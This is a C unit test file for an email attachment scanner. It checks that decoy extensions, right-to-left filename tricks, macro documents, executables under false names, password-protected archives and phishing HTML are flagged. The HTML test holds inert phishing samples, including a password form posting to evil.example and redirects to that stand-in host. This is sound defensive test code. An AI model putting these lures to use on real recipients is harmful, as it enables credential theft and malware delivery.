/* test_attach.c — risky attachments by name, by content and in archives; harmless ones stay quiet. */
#include "config.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "attach.h"
#include "findings.h"
#include "message.h"

static void
risky(const char *name, const char *ctype, const char *data, size_t len, const char *body, const char *word)
{
	char *why = attach_risk(name, ctype, data, len, body);

	ck_assert_msg(why != NULL, "%s should be risky", name != NULL ? name : "(unnamed)");
	if (word != NULL)
		ck_assert_msg(strstr(why, word) != NULL, "%s: \"%s\" lacks \"%s\"", name, why, word);
	free(why);
}

static void
harmless(const char *name, const char *ctype, const char *data, size_t len, const char *body)
{
	char *why = attach_risk(name, ctype, data, len, body);

	ck_assert_msg(why == NULL, "%s should be harmless: %s", name != NULL ? name : "(unnamed)", why);
	free(why);
}

/* A one-member ZIP local header (APPNOTE 4.3.7) with the given flags. */
static size_t
zip_one(unsigned char *out, const char *member, unsigned flags)
{
	size_t n = strlen(member);

	memset(out, 0, 30);
	memcpy(out, "PK\x03\x04", 4);
	out[6] = (unsigned char)flags;
	out[18] = 3;                      /* compressed size */
	out[26] = (unsigned char)n;
	memcpy(out + 30, member, n);
	memcpy(out + 30 + n, "abc", 3);
	return 30 + n + 3;
}

START_TEST(by_name)
{
	risky("請求書.pdf.exe", NULL, NULL, 0, NULL, "decoy");
	risky("invoice.pdf      .scr", NULL, NULL, 0, NULL, "scr");
	risky("payment.js", NULL, NULL, 0, NULL, NULL);
	risky("scan.vbs", NULL, NULL, 0, NULL, NULL);
	risky("document.lnk", NULL, NULL, 0, NULL, NULL);
	risky("disk.iso", NULL, NULL, 0, NULL, NULL);
	risky("disk.IMG", NULL, NULL, 0, NULL, NULL);
	risky("report.docm", NULL, NULL, 0, NULL, "macro");
	risky("請求書\xe2\x80\xae" "fdp.exe", NULL, NULL, 0, NULL, "right-to-left");
	harmless("請求書.pdf", "application/pdf", "%PDF-1.7\n", 9, NULL);
	harmless("photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0", 4, NULL);
	harmless("notes.txt", "text/plain", "hello", 5, NULL);
	harmless("report.docx", NULL, NULL, 0, NULL);
	harmless(NULL, NULL, NULL, 0, NULL);
}
END_TEST

START_TEST(by_content)
{
	unsigned char pe[128], zip[128];
	char iso[0x8010];
	size_t n;

	memset(pe, 0, sizeof pe);
	pe[0] = 'M';
	pe[1] = 'Z';
	pe[60] = 64;
	memcpy(pe + 64, "PE\0\0", 4);
	risky("invoice.pdf", "application/pdf", (const char *)pe, sizeof pe, NULL, "PE");   /* the name lies */
	risky(NULL, "application/octet-stream", "\x7f" "ELF\x02\x01", 6, NULL, "ELF");
	risky("a.bin", NULL, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20, NULL, ".lnk");
	memset(iso, 0, sizeof iso);
	memcpy(iso + 0x8001, "CD001", 5);
	risky("data.bin", NULL, iso, sizeof iso, NULL, "ISO");
	{
		static const char ole_macro[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" "....._VBA_PROJECT....";
		static const char ole_plain[] = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" "......WordDocument";

		risky("macro.doc", "application/msword", ole_macro, sizeof ole_macro - 1, NULL, "macros");
		harmless("plain.doc", "application/msword", ole_plain, sizeof ole_plain - 1, NULL);
	}

	n = zip_one(zip, "請求書.exe", 0);
	risky("files.zip", "application/zip", (const char *)zip, n, NULL, "請求書.exe");
	n = zip_one(zip, "word/vbaProject.bin", 0);
	risky("report.docx", NULL, (const char *)zip, n, NULL, "vbaProject");
	n = zip_one(zip, "invoice.pdf", 1);          /* encrypted */
	risky("invoice.zip", "application/zip", (const char *)zip, n, "解凍パスワード: 8841\n", "password");
	harmless("invoice.zip", "application/zip", (const char *)zip, n, "請求書を添付します。\n");
	n = zip_one(zip, "invoice.pdf", 0);
	harmless("invoice.zip", "application/zip", (const char *)zip, n, "password: 8841\n");
	risky("a.rar", NULL, "Rar!\x1a\x07\x01\x00", 8, "Password: 1234", NULL);
}
END_TEST

START_TEST(html)
{
	const char *form = "<html><body><form action=\"https://evil.example/p\"><input type=\"password\"></form></body></html>";
	const char *redir = "<html><script>window.location='https://evil.example/'</script></html>";
	const char *refresh = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head></html>";
	const char *plain = "<html><body><p>Meeting notes</p></body></html>";

	risky("Remittance.html", "text/html", form, strlen(form), NULL, "form");
	risky("scan.htm", NULL, redir, strlen(redir), NULL, "script");
	risky("voicemail.svg", "image/svg+xml", redir, strlen(redir), NULL, NULL);
	risky("doc.dat", "application/octet-stream", form, strlen(form), NULL, "form");   /* HTML by content */
	risky("x.html", NULL, refresh, strlen(refresh), NULL, "redirects");
	harmless("notes.html", "text/html", plain, strlen(plain), NULL);
}
END_TEST

START_TEST(in_a_message)
{
	/* RFC 2231-encoded name, base64 content: a PE behind ".pdf.exe" */
	const char *mail =
	    "From: a@example.com\nTo: b@example.com\nSubject: invoice\nMIME-Version: 1.0\n"
	    "Content-Type: multipart/mixed; boundary=XX\n\n--XX\nContent-Type: text/plain; charset=utf-8\n\nsee attached\n"
	    "--XX\nContent-Type: application/octet-stream\n"
	    "Content-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf.exe\n"
	    "Content-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n"
	    "--XX\nContent-Type: image/png\nContent-Disposition: attachment; filename=logo.png\n"
	    "Content-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--XX--\n";
	struct message *m;
	struct findings fs = { 0 };
	char *cause = NULL;

	message_init();
	ck_assert_msg(message_load_mem(mail, strlen(mail), "t", &m, &cause) == 0, "%s", cause);
	attach_check(m, &fs);
	ck_assert_uint_eq(fs.n, 1);
	ck_assert_int_eq(fs.v[0].id, F_ATTACHMENT_RISKY);
	ck_assert_str_eq(fs.v[0].where, "attachment[2]");
	ck_assert(strstr(fs.v[0].evidence, "請求書.pdf.exe") != NULL);
	findings_free(&fs);
	message_free(m);
}
END_TEST

static Suite *
attach_suite(void)
{
	Suite *s = suite_create("attach");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, by_name);
	tcase_add_test(tc, by_content);
	tcase_add_test(tc, html);
	tcase_add_test(tc, in_a_message);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(attach_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
